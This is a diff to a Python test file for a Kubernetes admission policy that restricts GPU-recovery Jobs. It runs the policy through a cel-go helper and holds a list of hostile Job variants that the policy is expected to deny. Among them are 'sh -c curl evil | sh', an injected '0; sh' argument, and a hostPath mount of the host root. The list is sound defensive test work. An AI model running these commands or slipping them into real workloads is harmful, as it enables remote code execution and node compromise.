@@ -18,7 +18,6 @@ commands, and the policy against the Jobs the receiver really builds.
 
 from __future__ import annotations
 
-import re
 import shutil
 import subprocess
 from pathlib import Path
@@ -456,63 +455,89 @@ def test_the_admission_policy_admits_only_the_shipped_recovery_jobs(renderings, 
         assert f"variables.pod.{field}" in joined or f"c.{field}" in joined, field
 
 
-def test_the_recovery_jobs_satisfy_the_policys_checks_a_python_mirror():
-    """A Python reading of the policy's checks applied to remediate/kubernetes.py's Jobs (what the
-    API server's CEL would decide), and to Jobs a stolen token might send: those must fail."""
-    from gpulens.remediate.kubernetes import DEFAULT_JOB_IMAGE
+def celcheck() -> str:
+    """tools/celcheck: $GPULENS_CELCHECK (make test sets it), else the cache `make celcheck` builds."""
+    import os
 
-    def admitted(job: dict[str, Any], namespace: str = NAMESPACE) -> bool:
-        action = job["metadata"].get("labels", {}).get("gpulens.io/action", "")
-        pod = job["spec"]["template"]["spec"]
-        containers = pod["containers"]
-        reset_ok = re.compile(r"^(GPU-[0-9a-fA-F-]+|MIG-[0-9a-zA-Z/-]+|[0-9]+)$")
-        reboot = ["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "-p", "--", "systemctl", "reboot"]
-        checks = [
-            namespace == NAMESPACE,
-            action in ("reset_gpu", "reboot_node"),
-            len(containers) == 1 and "initContainers" not in pod and "ephemeralContainers" not in pod,
-            all(c["image"] == DEFAULT_JOB_IMAGE for c in containers),
-            all(
-                "args" not in c
-                and (
-                    (
-                        len(c["command"]) == 4
-                        and c["command"][:3] == ["nvidia-smi", "-r", "-i"]
-                        and bool(reset_ok.match(c["command"][3]))
-                    )
-                    if action == "reset_gpu"
-                    else c["command"] == reboot
-                )
-                for c in containers
-            ),
-            all(
-                not ({"envFrom", "volumeMounts", "volumeDevices"} & set(c))
-                and all(e == {"name": "NVIDIA_VISIBLE_DEVICES", "value": "all"} for e in c.get("env", ()))
-                for c in containers
-            ),
-            not pod.get("volumes"),
-            not pod.get("hostNetwork")
-            and not pod.get("hostIPC")
-            and (not pod.get("hostPID") or action == "reboot_node"),
-            pod.get("serviceAccountName", "default") == "default",
-            bool(pod.get("nodeName")),
-        ]
-        return all(checks)
+    binary = Path(
+        os.environ.get("GPULENS_CELCHECK") or Path.home() / ".cache" / "gpulens-tools" / "bin" / "celcheck"
+    )
+    if not binary.exists():
+        if shutil.which("go") is None:
+            pytest.skip("Go is not installed: tools/celcheck cannot be built")
+        subprocess.run(["make", "-s", "celcheck"], cwd=REPO, check=True, timeout=900)
+    return str(binary)
 
+
+def _verdicts(
+    policy: dict[str, Any], cases: dict[str, tuple[dict[str, Any], dict[str, Any]]]
+) -> dict[str, Any]:
+    """name -> cel-go's verdict on (object, request) for the policy as rendered."""
+    import json
+
+    stdin = {
+        "policy": policy,
+        "cases": [{"name": n, "object": o, "request": r} for n, (o, r) in cases.items()],
+    }
+    done = subprocess.run([celcheck()], input=json.dumps(stdin), capture_output=True, text=True, timeout=60)
+    assert done.returncode == 0, done.stderr
+    return {v["name"]: v for v in json.loads(done.stdout)}
+
+
+# Jobs a stolen receiver token might send instead of the shipped ones: each must be denied
+HOSTILE = {
+    "another image": lambda p: p["containers"][0].update(image="attacker/root:latest"),
+    "a shell": lambda p: p["containers"][0].update(command=["sh", "-c", "curl evil | sh"]),
+    "a reset of something that is no GPU": lambda p: p["containers"][0].update(
+        command=["nvidia-smi", "-r", "-i", "0; sh"]
+    ),
+    "a hostPath volume": lambda p: p.update(volumes=[{"name": "root", "hostPath": {"path": "/"}}]),
+    "host network": lambda p: p.update(hostNetwork=True),
+    "the receiver's own account": lambda p: p.update(serviceAccountName="gpulens-remediate"),
+    "extra args": lambda p: p["containers"][0].update(args=["--", "sh"]),
+    "a second container": lambda p: p["containers"].append(dict(p["containers"][0], name="second")),
+    "a secret in the environment": lambda p: p["containers"][0].update(
+        env=[{"name": "T", "valueFrom": {"secretKeyRef": {"name": "s", "key": "k"}}}]
+    ),
+    "no node": lambda p: p.pop("nodeName", None),
+}
+
+
+@pytest.mark.parametrize("where", ["helm with the receiver and report", "kustomize remediate"])
+def test_a_real_cel_evaluator_admits_the_shipped_recovery_jobs_and_denies_anything_else(renderings, where):
+    """The rendered policy's own CEL, evaluated by cel-go (tools/celcheck), on the Jobs the receiver
+    builds at run time (remediate/kubernetes.py) and on hostile variants of them."""
     import copy
 
+    objects = renderings[where]
+    policy, _ = _policy(objects)
+    (deployment,) = [o for o in objects if o["kind"] == "Deployment" and "remediate" in component(o)]
+    account = deployment["spec"]["template"]["spec"]["serviceAccountName"]
+    namespace = deployment["metadata"].get("namespace", NAMESPACE)
+    (container,) = deployment["spec"]["template"]["spec"]["containers"]
+    (image,) = [a.split("=", 1)[1] for a in container["args"] if a.startswith("--job-image=")]
+    receiver = {
+        "namespace": namespace,
+        "userInfo": {"username": f"system:serviceaccount:{namespace}:{account}"},
+    }
+    cases: dict[str, tuple[dict[str, Any], dict[str, Any]]] = {}
     for job in recovery_jobs():
-        assert admitted(job), job
-        assert not admitted(job, namespace="kube-system")
-        for mutate in (
-            lambda p: p["containers"][0].update(image="attacker/root:latest"),
-            lambda p: p["containers"][0].update(command=["sh", "-c", "curl evil | sh"]),
-            lambda p: p.update(volumes=[{"name": "root", "hostPath": {"path": "/"}}]),
-            lambda p: p.update(hostNetwork=True),
-            lambda p: p.update(serviceAccountName="gpulens-remediate"),
-            lambda p: p["containers"][0].update(args=["--", "sh"]),
-            lambda p: p["containers"].append(dict(p["containers"][0], name="second")),
-        ):
+        action = job["metadata"]["labels"]["gpulens.io/action"]
+        for c in job["spec"]["template"]["spec"]["containers"]:
+            c["image"] = image  # the image the receiver is told to use (--job-image)
+        cases[f"{action}: shipped"] = (job, receiver)
+        cases[f"{action}: in kube-system"] = (job, dict(receiver, namespace="kube-system"))
+        cases[f"{action}: from a person"] = (job, dict(receiver, userInfo={"username": "alice"}))
+        for name, mutate in HOSTILE.items():
             bad = copy.deepcopy(job)
             mutate(bad["spec"]["template"]["spec"])
-            assert not admitted(bad)
+            cases[f"{action}: {name}"] = (bad, receiver)
+    verdicts = _verdicts(policy, cases)
+    for name, verdict in verdicts.items():
+        assert verdict["error"] == "", (name, verdict)
+        if name.endswith(": shipped"):
+            assert verdict["matched"] and verdict["denied"] == [], (name, verdict)
+        elif name.endswith(": from a person"):
+            assert not verdict["matched"], name  # the policy binds the receiver's account only
+        else:
+            assert verdict["matched"] and verdict["denied"], (name, verdict)
